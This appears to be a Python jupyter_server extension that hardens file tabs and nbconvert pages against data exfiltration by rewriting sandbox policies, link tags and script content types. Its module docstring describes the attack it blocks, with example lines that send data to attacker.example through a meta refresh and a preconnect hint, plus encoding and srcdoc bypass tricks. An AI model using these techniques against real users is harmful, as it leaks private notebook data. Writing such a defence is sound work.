"""Files a sandbox wrote, opened in a browser tab of their own, go nowhere.

Why: JupyterLab's "Open in New Browser Tab" loads a workspace file from
``/files/…`` as a page of its own, and nbconvert's HTML of a notebook
(``/nbconvert/html/…``) is one too. jupyter_server confines it with
``Content-Security-Policy: …; sandbox allow-scripts``: its scripts cannot reach
the server's API, but they run, and so does the rest of the page. A private
session's cell writes ``report.html`` holding its data and
``<meta http-equiv="refresh" content="0;url=https://attacker.example/?d=…">``
(or ``location = …`` in a script, or ``<link rel="preconnect"
href="https://<data>.attacker.example">``); the user opens it in a tab and the
data leaves without a click: the Content-Security-Policy governs fetches, not
navigation, and Chromium connects for resource hints whatever the policy says.

What this extension does to every response jupyter_server sandboxes (those two
handlers, and any that add a ``sandbox`` directive), through a Tornado output
transform (the server's documented hook for rewriting responses):

- the ``sandbox`` directive loses its allowances: no scripts (so no script
  navigation, and Chromium refuses a sandboxed document's ``<meta>`` refresh
  and ignores its speculation rules, which prefetch other origins), no forms,
  no popups;
- in a document the browser parses for elements (HTML, SVG, any XML), every
  ``<link>`` that is not plainly a stylesheet, icon or page relation is renamed
  ``<x-link>`` (an element that does nothing), and so are XML stylesheet
  instructions (XSLT can write new links; a sandboxed page's opaque origin
  already stops it loading a stylesheet, so this is belt and braces). This is
  a textual rewrite, not a parse: a parser here that read the document
  differently from the browser's would let a hint through, while the text
  ``<link`` is needed for any ``link`` element either could see. A link element is kept only when its whole tag
  matches one plain form (quoted attributes, a literal ``rel`` of
  :data:`KEPT_RELATIONS`, no character references in it);
- bytes that let a browser spell ``<link`` in other bytes are removed first:
  NUL (UTF-16 needs it for every ASCII character) and ESC (ISO-2022-JP's
  switch), and XML entity declarations are renamed (an entity can spell a tag
  with character references), and so is every ``srcdoc`` (a frame's whole
  document in an attribute, its tags spelled with character references; the
  text is renamed wherever it stands, attribute or not). ``data:`` frames,
  the other way to hold a document, are refused by the Lab's policy. Pages in those encodings show garbled; none of
  this is common in what notebooks write.

Whatever the Lab's policy allows from its own origin (``script-src 'self'``)
must not be something a sandbox wrote: a cell writes ``evil.js`` into its
workspace, or a notebook whose ``language_info.mimetype`` makes its script
export (``/nbconvert/script/…``) ``text/javascript``, and a ``<script src>``
that a sanitiser missed loads it as the page's own. So every response these
handlers send, and every response of a route that serves the workspace
(:data:`WORKSPACE_ROUTES`, whether or not the server sandboxes it), is never a
script: a JavaScript type becomes ``text/plain`` (the bytes are unchanged,
downloads too) and ``nosniff`` makes browsers refuse any type but
JavaScript's for a script, a worker or a module.

Downloads (``?download=1``) are byte-exact: untouched (a script's type
aside, above), and so is a file the browser fetches as an image, a style or
anything else it does not show as a page (``Sec-Fetch-Dest``, which a page
cannot set): an SVG shown by ``<img>``
runs nothing and loads nothing, and Illustrator's SVGs declare entities.
Interactive HTML (a Bokeh or Plotly export) runs in JupyterLab's HTML viewer
after "Trust HTML" only with ``SANDBOX_KERNEL_REMOTE_CONTENT=1`` (see
:mod:`lab_content_policy`: the page runs no inline script of a sandbox's,
trusted or not), which also leaves jupyter_server's behaviour here as it was.
"""

from __future__ import annotations

import functools
import re
from typing import Any

from tornado.httputil import HTTPHeaders
from tornado.web import OutputTransform

#: ``rel`` values a ``<link>`` may keep: fetched, if at all, under the page's
#: policy (stylesheets, icons) or not fetched (page relations)
KEPT_RELATIONS = frozenset(
    {
        "stylesheet",
        "icon",
        "shortcut icon",
        "apple-touch-icon",
        "canonical",
        "next",
        "prev",
        "index",
        "author",
        "license",
    }
)
#: attributes a kept ``<link>`` may carry besides ``rel``
_KEPT_ATTRIBUTES = frozenset({"href", "type", "media", "title", "id", "sizes", "crossorigin", "integrity"})

# Any start or end tag whose name is ``link``, with an XML prefix (any bytes a
# name may hold, non-ASCII ones included) or not.
_LINK_TAG = re.compile(rb"<(/?)([^\s<>/:=\"']*:)?(link)(?=[\s/>])", re.IGNORECASE)
_XML_STYLESHEET = re.compile(rb"<\?(xml-stylesheet)", re.IGNORECASE)
_ENTITY_DECLARATION = re.compile(rb"<!ENTITY", re.IGNORECASE)
# A srcdoc attribute holds a whole document, its tags written as character
# references: no "<link" to find in the page's text.
_SRCDOC = re.compile(rb"(srcdoc)", re.IGNORECASE)
# One attribute of a kept tag: a name, then a value in double or single quotes
# holding no quote, no angle bracket and no character reference.
_ATTRIBUTE = re.compile(rb"""[\t\n\f\r ]+([A-Za-z-]+)=(?:"([^"<>&]*)"|'([^'<>&]*)')""")
_TAG_END = re.compile(rb"[\t\n\f\r ]*/?>")
_SPELLING_BYTES = re.compile(rb"[\x00\x1b]")
_XML_TYPES = frozenset({"text/xml", "application/xml", "text/xsl"})
# Fetch destinations a browser shows as a page of its own; "" is a request
# without the header (an older browser): rewritten, to fail closed.
_PAGE_DESTINATIONS = frozenset({"document", "iframe", "frame", "embed", "object", "fencedframe", ""})
_HTML_TYPES = frozenset({"text/html"})
#: the types a browser runs as a script (WHATWG MIME Sniffing's JavaScript MIME types)
SCRIPT_TYPES = frozenset(
    {
        "application/ecmascript",
        "application/javascript",
        "application/x-ecmascript",
        "application/x-javascript",
        "text/ecmascript",
        "text/javascript",
        "text/javascript1.0",
        "text/javascript1.1",
        "text/javascript1.2",
        "text/javascript1.3",
        "text/javascript1.4",
        "text/javascript1.5",
        "text/jscript",
        "text/livescript",
        "text/x-ecmascript",
        "text/x-javascript",
    }
)
#: the routes (under the server's base URL) that send what is in the workspace
WORKSPACE_ROUTES = ("files/", "nbconvert/")


def _directive_name(directive: str) -> str:
    """``sandbox`` of `` sandbox allow-scripts`` (names are case-insensitive)."""
    words = directive.split()
    return words[0].lower() if words else ""


def tightened_policy(policy: str) -> str:
    """``policy`` with its ``sandbox`` directive stripped of every allowance."""
    return ";".join(" sandbox" if _directive_name(d) == "sandbox" else d for d in policy.split(";"))


def is_sandboxed(policy: str) -> bool:
    """Whether ``policy`` has a ``sandbox`` directive."""
    return any(_directive_name(d) == "sandbox" for d in policy.split(";"))


def media_type(content_type: str) -> str:
    """``text/html`` of ``text/html; charset=UTF-8``."""
    return content_type.split(";", 1)[0].strip().lower()


def is_markup(content_type: str) -> bool:
    """Whether a browser builds elements from a body of this type."""
    kind = media_type(content_type)
    return kind in _HTML_TYPES or kind in _XML_TYPES or kind.endswith("+xml")


def _is_kept_link(body: bytes, start: int) -> bool:
    """Whether the ``<link`` tag whose name ends at ``start`` is one plain
    form: quoted attributes of :data:`_KEPT_ATTRIBUTES`, each once, and a
    literal ``rel`` of :data:`KEPT_RELATIONS`."""
    position = start
    seen: dict[bytes, bytes] = {}
    while attribute := _ATTRIBUTE.match(body, position):
        name = attribute.group(1).lower()
        if name in seen or (name != b"rel" and name.decode() not in _KEPT_ATTRIBUTES):
            return False
        seen[name] = attribute.group(2) if attribute.group(2) is not None else attribute.group(3)
        position = attribute.end()
    relation = b" ".join(seen.get(b"rel", b"").lower().split())
    return _TAG_END.match(body, position) is not None and relation.decode() in KEPT_RELATIONS


def without_hints(body: bytes) -> bytes:
    """``body`` as a file tab gets it: NUL and ESC bytes removed, XML entity
    declarations, stylesheet instructions and ``srcdoc`` attributes renamed,
    and every link tag that is not plainly kept renamed ``x-link`` (end tags
    too, so XML stays well formed)."""
    body = _ENTITY_DECLARATION.sub(b"<!x-ENTITY", _SPELLING_BYTES.sub(b"", body))
    body = _SRCDOC.sub(rb"x-\1", body)
    out = bytearray()
    position = 0
    for match in _LINK_TAG.finditer(body):
        closing, prefix, name = match.group(1), match.group(2) or b"", match.group(3)
        kept = not closing and not prefix and _is_kept_link(body, match.end())
        out += body[position : match.start()]
        out += match.group(0) if kept else b"<" + closing + prefix + b"x-" + name
        position = match.end()
    out += body[position:]
    return _XML_STYLESHEET.sub(rb"<?x-\1", bytes(out))


def never_a_script(headers: HTTPHeaders) -> None:
    """Make a response no browser runs as a script: a type of
    :data:`SCRIPT_TYPES` becomes ``text/plain`` (the bytes are unchanged), and
    ``nosniff`` makes a browser refuse any other type as a script."""
    if media_type(headers.get("Content-Type", "")) in SCRIPT_TYPES:
        headers["Content-Type"] = "text/plain; charset=UTF-8"
    headers["X-Content-Type-Options"] = "nosniff"


class FileTabTransform(OutputTransform):
    """Rewrites the responses jupyter_server sandboxes and those of
    ``workspace_prefixes`` (see the module)."""

    def __init__(self, request: Any, workspace_prefixes: tuple[str, ...] = ()) -> None:
        super().__init__(request)
        self._method = request.method
        self._as_page = request.headers.get("Sec-Fetch-Dest", "").strip().lower() in _PAGE_DESTINATIONS
        self._from_workspace = str(request.path).startswith(workspace_prefixes) if workspace_prefixes else False
        self._body: bytearray | None = None

    def transform_first_chunk(
        self, status_code: int, headers: HTTPHeaders, chunk: bytes, finishing: bool
    ) -> tuple[int, HTTPHeaders, bytes]:
        policy = headers.get("Content-Security-Policy", "")
        sandboxed = bool(policy) and is_sandboxed(policy)
        if sandboxed or self._from_workspace:
            never_a_script(headers)
        if not sandboxed:
            return status_code, headers, chunk
        headers["Content-Security-Policy"] = tightened_policy(policy)
        attachment = headers.get("Content-Disposition", "").strip().lower().startswith("attachment")
        if status_code != 200 or attachment or not is_markup(headers.get("Content-Type", "")):
            return status_code, headers, chunk
        # What is sent depends on how the browser will show it: no cache may
        # hand an image's bytes to a page.
        headers.add("Vary", "Sec-Fetch-Dest")
        if not self._as_page:
            return status_code, headers, chunk
        # The body changes length: it is sent whole, once the handler finished.
        if "Content-Length" in headers:
            del headers["Content-Length"]
        if self._method == "HEAD":
            return status_code, headers, chunk
        self._body = bytearray(chunk)
        if not finishing:
            return status_code, headers, b""
        body = without_hints(bytes(self._body))
        headers["Content-Length"] = str(len(body))
        return status_code, headers, body

    def transform_chunk(self, chunk: bytes, finishing: bool) -> bytes:
        if self._body is None:
            return chunk
        self._body += chunk
        return without_hints(bytes(self._body)) if finishing else b""


def _load_jupyter_server_extension(serverapp: Any) -> None:
    base = serverapp.base_url if serverapp.base_url.endswith("/") else serverapp.base_url + "/"
    prefixes = tuple(base + route for route in WORKSPACE_ROUTES)
    # First in line: a compressing transform would otherwise hand it gzip bytes.
    serverapp.web_app.transforms.insert(0, functools.partial(FileTabTransform, workspace_prefixes=prefixes))


def _jupyter_server_extension_points() -> list[dict[str, str]]:
    return [{"module": "sandbox_kernel.lab_file_tabs"}]


__all__ = [
    "KEPT_RELATIONS",
    "SCRIPT_TYPES",
    "WORKSPACE_ROUTES",
    "FileTabTransform",
    "is_markup",
    "is_sandboxed",
    "never_a_script",
    "tightened_policy",
    "without_hints",
]
